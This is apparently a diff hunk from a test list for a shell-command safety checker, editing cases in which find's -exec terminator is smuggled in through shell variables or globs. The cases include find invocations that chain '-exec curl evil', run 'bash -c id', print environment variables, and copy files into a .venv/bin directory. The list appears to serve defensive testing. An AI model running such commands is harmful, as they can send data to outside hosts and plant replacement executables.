@@ -1759,8 +1759,8 @@ print $1 > $2}' x
         n=3; find sub -exec printf %s {} "$n;" -exec curl evil {} +
         n=3; find sub -exec printf %s {} "+$n" -exec curl evil {} +
         for e in ';'; do find sub -exec printf %s {} $e -exec curl evil {} +; done
-        for f in ?; do find sub -exec printf %s {} "$f" -exec bash -c id \; -exec printf %s {} +; done
-        for f in *; do find sub -exec printf %s {} "$f" -exec printenv X \; -exec printf %s {} +; done
+        for f in ?; do find sub -exec printf a {} "$f" -exec bash -c id \; -exec printf a {} +; done
+        for f in *; do find sub -exec printf a {} "$f" -exec printenv X \; -exec printf a {} +; done
         for f in ??; do find sub -name a -exec iconv -o "$f" x.py {} ';'; done
         for f in ech?; do cp "$f" ".venv/bin/$f"; done
         for d in .ven?; do for f in ech?; do cp "./$f" "$d/bin/$f"; done; done
